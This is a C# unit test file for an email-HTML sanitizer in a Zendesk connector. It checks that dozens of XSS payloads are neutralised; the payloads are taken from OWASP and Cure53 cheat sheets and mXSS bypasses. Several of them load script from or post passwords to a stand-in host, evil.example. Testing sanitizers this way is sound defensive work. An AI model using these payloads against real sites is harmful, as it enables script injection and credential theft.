using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Connector.Zendesk.Tickets.Html;

namespace Connector.UnitTests.Zendesk.Tickets;

/// <summary>
/// Hostile HTML. The payloads are those of OWASP's XSS Filter Evasion Cheat Sheet and Cure53's HTML5 Security Cheat Sheet, and published
/// bypasses of sanitizers by a second parse (mXSS).
/// </summary>
[TestClass]
public sealed class MailHtmlTests
{
    private static readonly string[] Schemes = ["http:", "https:", "mailto:", "tel:"];

    [TestMethod]
    [DataRow("<script>alert(1)</script>")]
    [DataRow("<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>")]
    [DataRow("<SCR\0IPT>alert(1)</SCR\0IPT>")]
    [DataRow("<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>")]
    [DataRow("<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>")]
    [DataRow("<SCRIPT SRC=https://evil.example/xss.js?< B >")]
    [DataRow("<SCRIPT \"a='>'\" SRC=\"https://evil.example/xss.js\"></SCRIPT>")]
    [DataRow("<IMG SRC=\"javascript:alert('XSS');\">")]
    [DataRow("<IMG SRC=JaVaScRiPt:alert('XSS')>")]
    [DataRow("<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>")]
    [DataRow("<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>")]
    [DataRow("<IMG SRC=# onmouseover=\"alert('xxs')\">")]
    [DataRow("<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>")]
    [DataRow("<IMG SRC=\" &#14; javascript:alert('XSS');\">")]
    [DataRow("<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">")]
    [DataRow("<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>")]
    [DataRow("<IMG SRC=cid:x onerror=alert(1)>")]
    [DataRow("<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">")]
    [DataRow("<BODY ONLOAD=alert('XSS')>text")]
    [DataRow("<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>")]
    [DataRow("<iframe src=https://evil.example/scriptlet.html <")]
    [DataRow("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [DataRow("\\\";alert('XSS');//</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>")]
    [DataRow("<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">")]
    [DataRow("<BODY BACKGROUND=\"javascript:alert('XSS')\">")]
    [DataRow("<svg/onload=alert('XSS')>")]
    [DataRow("<svg><script>alert&#40;1&#41;</script></svg>")]
    [DataRow("<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>")]
    [DataRow("<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">")]
    [DataRow("<STYLE>@import'https://evil.example/xss.css';</STYLE>")]
    [DataRow("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">")]
    [DataRow("<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD>x")]
    [DataRow("<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>")]
    [DataRow("<BASE HREF=\"javascript:alert('XSS');//\">")]
    [DataRow("<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>")]
    [DataRow("<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>")]
    [DataRow("<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>")]
    [DataRow("<a href=\"java\nscript:alert(1)\">x</a>")]
    [DataRow("<a href=\"\u0001javascript:alert(1)\">x</a>")]
    [DataRow("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [DataRow("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>")]
    [DataRow("<a href=\"//evil.example/\" onclick=\"alert(1)\">x</a>")]
    [DataRow("<a onmouseover=alert(document.cookie)\\>xxs link</a>")]
    [DataRow("<form action=https://evil.example><input name=password><button>Sign in</button></form>")]
    [DataRow("<form><button formaction=\"javascript:alert(1)\">X</button></form>")]
    [DataRow("<video><source onerror=\"alert(1)\"></video>")]
    [DataRow("<details open ontoggle=alert(1)>x</details>")]
    [DataRow("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [DataRow("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [DataRow("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [DataRow("<div title=\"--><script>alert(1)</script>\"><!--")]
    [DataRow("<xmp><img title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>")]
    [DataRow("<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>")]
    [DataRow("<template><script>alert(1)</script></template>")]
    [DataRow("<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->")]
    [DataRow("<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>")]
    [DataRow("<img src=\"cid:f1\" alt=\"&quot;><script>alert(1)</script>\">")]
    [DataRow("<b title='\"><img src=x onerror=alert(1)>'>x</b>")]
    public void Payload_leaves_no_script_and_no_foreign_address(string payload)
    {
        foreach (var html in (string[])[payload, $"before {payload} after", $"<div class=\"gmail_quote\">{payload}</div>"])
        {
            AssertHarmless(Clean(html));
            AssertHarmless(Clean(html, isReply: true));
        }
    }

    [TestMethod]
    public void Random_mixtures_of_payloads_leave_no_script()
    {
        var pieces = typeof(MailHtmlTests).GetMethod(nameof(Payload_leaves_no_script_and_no_foreign_address))!
            .GetCustomAttributes(typeof(DataRowAttribute), inherit: false)
            .Cast<DataRowAttribute>().Select(row => (string)row.Data[0]!).ToList();
        var chance = new Random(20261129);

        for (var round = 0; round < 300; round++)
        {
            var mixed = string.Concat(Enumerable.Range(0, 4).Select(_ => Slice(pieces[chance.Next(pieces.Count)], chance)));
            AssertHarmless(Clean(mixed));
        }
    }

    [TestMethod]
    [DataRow("<div>")]
    [DataRow("<table><tr><td>")]
    [DataRow("<b>")]
    [DataRow("<a href=\"https://e.example/\"><table>")]
    [DataRow("<span><p>")]
    [DataRow("<ul><li>")]
    [DataRow("<blockquote type=cite>")]
    [DataRow("<font size=1><!--</font>--><p>")]
    [DataRow("<i title=\"</i>\"><p>x")]
    [DataRow("<svg><math>")]
    [DataRow("<")]
    [DataRow("<a ")]
    [DataRow("<!-- ")]
    [DataRow("<div style=\"")]
    [DataRow("</div>")]
    [DataRow("&#x26;")]
    [DataRow("  \n")]
    public void Hostile_structure_is_cleaned_within_the_limits_of_text_and_depth(string piece)
    {
        var html = string.Concat(Enumerable.Repeat(piece, 200_000 / piece.Length));

        var text = Clean($"first {html} last");
        AssertHarmless(text);
        AssertHarmless(Clean($"first {html} last", isReply: true));

        Assert.Contains("first", text);
        Assert.IsLessThan(1_000_000, text.Length);
    }

    [TestMethod]
    public void Formats_with_different_attributes_do_not_multiply()
    {
        var fonts = string.Concat(Enumerable.Range(0, 5_000).Select(i => $"<font title=\"{i}\">"));
        var html = Clean($"{fonts}{string.Concat(Enumerable.Repeat("<p>x", 20_000))}");

        Assert.IsLessThan(20_000_000, html.Length);
        AssertHarmless(html);
    }

    [TestMethod]
    [DataRow("<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>")]
    [DataRow("<a href=\"https://acme.example/x?a=1&amp;b=2\">x</a>", "<a href=\"https://acme.example/x?a=1&amp;b=2\">x</a>")]
    [DataRow("a<style>p{color:red}</style>b", "ab")]
    [DataRow("<html><head><title>T</title></head><body>x</body></html>", "x")]
    [DataRow("<!-- x -->a<!-->b<!--->c<!--[if mso]>d<![endif]-->e", "abce")]
    [DataRow("5 < 6 & 7 > 3", "5 &lt; 6 &amp; 7 &gt; 3")]
    [DataRow("<div style=\"display:none\">preview</div>x", "x")]
    [DataRow("<div style=\"color:red\">x</div>", "<div>x</div>")]
    [DataRow("<custom-tag>x</custom-tag>", "x")]
    [DataRow("<table><tr><td>1<td>2</table>", "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>")]
    [DataRow("a\n\n\n     b<pre>c\n\n  d</pre>", "a\nb<pre>c\n\n  d</pre>")]
    [DataRow("<img src=\"https://evil.example/pixel.gif\" alt=\"Logo\">x", "Logox")]
    [DataRow("<img alt='\"x\"' src='CID:one%40x'>", "<img src=\"cid:f1\" alt=\"&quot;x&quot;\">")]
    [DataRow("<img src=\"cid:two\">", "")]
    public void Ordinary_HTML_keeps_its_structure(string html, string expected) => Assert.AreEqual(expected, Clean(html));

    [TestMethod]
    [DataRow("Thanks!<div class=\"gmail_quote\"><div class=\"gmail_attr\">On 5 Jan Ann wrote:</div><div>Q</div></div>", "Thanks!")]
    [DataRow("<p>Thanks!</p><br><blockquote type=\"cite\"><div>On Monday Ann wrote:</div>Q</blockquote><br>", "<p>Thanks!</p><br>")]
    [DataRow("Thanks!<div class=\"moz-cite-prefix\">On Monday Ann wrote:</div><blockquote type=\"cite\">Q</blockquote>", "Thanks!")]
    [DataRow("<p>Thanks!</p><div id=\"appendonsend\"></div><hr><div id=\"divRplyFwdMsg\">From: Ann</div><p>Q</p>", "<p>Thanks!</p>")]
    [DataRow("Thanks!<div class=\"yahoo_quoted\">Q</div>", "Thanks!")]
    [DataRow("<p>Thanks!</p><p>##- Please type your reply above this line -##</p><p>Q</p>", "<p>Thanks!</p><p></p>")]
    [DataRow("<p>Thanks!</p><blockquote class=\"gmail_quote\"><p>##- Antworten Sie hier -##</p><p>Q</p></blockquote>", "<p>Thanks!</p>")]
    public void Quote_below_a_reply_is_left_out(string html, string expected) => Assert.AreEqual(expected, Clean(html, isReply: true));

    [TestMethod]
    [DataRow("<blockquote type=\"cite\">Shall I come?</blockquote>Yes", DisplayName = "the answer is below")]
    [DataRow("Hi<blockquote type=\"cite\">Come?</blockquote>Yes<blockquote type=\"cite\">When?</blockquote>Now", DisplayName = "between")]
    [DataRow("<blockquote type=\"cite\">Shall I come?</blockquote>", DisplayName = "nothing but a quote")]
    [DataRow("See below<div class=\"gmail_quote\">---------- Forwarded message ---------<br>x</div>", DisplayName = "forwarded")]
    public void Quote_stays_if_it_may_hold_the_answer(string html)
    {
        var text = Clean(html, isReply: true);
        Assert.AreEqual(Clean(html), text);
    }

    [TestMethod]
    public void Plain_text_is_shown_with_its_lines_and_indents() =>
        Assert.AreEqual("a &lt;b&gt;<br>\n&nbsp;&nbsp;c &amp; d<br>\n<br>\ne", MailHtml.FromText("a <b>\r\n  c & d\n\ne\n\n"));

    private static string Clean(string html, bool isReply = false) =>
        MailHtml.Clean(html, id => id is "one@x" or "x" or "f1" ? "f1" : null, isReply).Html;

    private static string Slice(string piece, Random chance)
    {
        var start = chance.Next(piece.Length);
        return piece.Substring(start, chance.Next(piece.Length - start + 1));
    }

    /// <summary>As a browser reads it, where scripts run and where they do not.</summary>
    private static void AssertHarmless(string html)
    {
        foreach (var scripting in (bool[])[true, false])
        {
            var document = new HtmlParser(new HtmlParserOptions { IsScripting = scripting }).ParseDocument(html);

            foreach (var element in document.Body!.QuerySelectorAll("*"))
            {
                Assert.Contains(element.LocalName, BoundedHtml.Tags, html);
                Assert.AreEqual("http://www.w3.org/1999/xhtml", element.NamespaceUri, html);

                foreach (var attribute in element.Attributes)
                {
                    Assert.DoesNotStartWith("on", attribute.Name, html);
                    Assert.AreNotEqual("style", attribute.Name, html);
                    AssertAddress(attribute, html);
                }
            }

            Assert.IsEmpty(document.Head!.Children.ToList(), html);
        }
    }

    private static void AssertAddress(IAttr attribute, string html)
    {
        if (attribute.Name == "src")
        {
            Assert.AreEqual("cid:f1", attribute.Value, html);
        }
        else if (attribute.Name == "href")
        {
            var plain = string.Concat(attribute.Value.Where(letter => letter > ' ')).ToLowerInvariant();
            var isRelative = !plain.Split('/', '?', '#')[0].Contains(':', StringComparison.Ordinal);
            Assert.IsTrue(isRelative || Schemes.Any(scheme => plain.StartsWith(scheme, StringComparison.Ordinal)), html);
        }
    }
}
